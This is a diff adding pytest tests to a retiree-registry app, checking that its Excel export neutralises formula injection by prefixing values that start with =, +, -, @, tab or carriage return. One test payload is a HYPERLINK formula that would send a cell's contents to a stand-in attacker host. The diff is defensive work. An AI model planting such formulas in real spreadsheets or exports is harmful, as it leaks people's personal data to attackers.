@@ -62,3 +62,29 @@ def test_a_masked_row_leaves_birth_date_and_hukou_empty(client, registered, user
     assert cells and all((c["出生日期"] is not None) is full for c in cells)
     assert all((c["户籍地区划代码"] is not None) is full for c in cells)
     assert all(c["常住地区划代码"] for c in cells)
+
+
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, registered, sessions):
+    """Issue 13 (7): a roster name ``=HYPERLINK(…)`` must not land as a live formula."""
+    from sqlalchemy import update
+
+    from engine.registry.retirees import Retiree
+
+    evil = '=HYPERLINK("http://evil.example/?d="&C2,"点击")'
+    with sessions() as session, session.begin():
+        session.execute(update(Retiree).where(Retiree.name == "王建国").values(name=evil, phone="@SUM(1+1)"))
+    login(client, "enterprise")
+    response = client.get("/retirees/export.xlsx", query_string={"q": "HYPERLINK"})
+    sheet = load_workbook(BytesIO(response.data)).active
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    values = [c.value for c in cells]
+    assert "'" + evil in values and "'@SUM(1+1)" in values
+
+
+def test_every_formula_start_is_neutralised():
+    from engine.cells import neutral
+
+    for text in ("=1+1", "+1", "-1+2", "@A1", "\t=1", "\r=1"):
+        assert neutral(text) == "'" + text
+    assert neutral("王建国") == "王建国" and neutral("0371-63912345") == "0371-63912345" and neutral(-1) == -1
